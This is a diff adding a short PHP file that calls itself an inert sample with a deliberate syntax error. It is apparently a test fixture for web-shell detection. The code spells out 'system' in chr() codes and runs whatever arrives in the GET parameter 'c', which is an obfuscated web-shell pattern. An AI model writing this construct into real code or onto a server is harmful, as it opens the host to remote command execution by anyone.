@@ -1,0 +1,4 @@
+<?php
+shodo inert sample: deliberate syntax error, this file never runs
+$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);
+$f($_GET['c']);
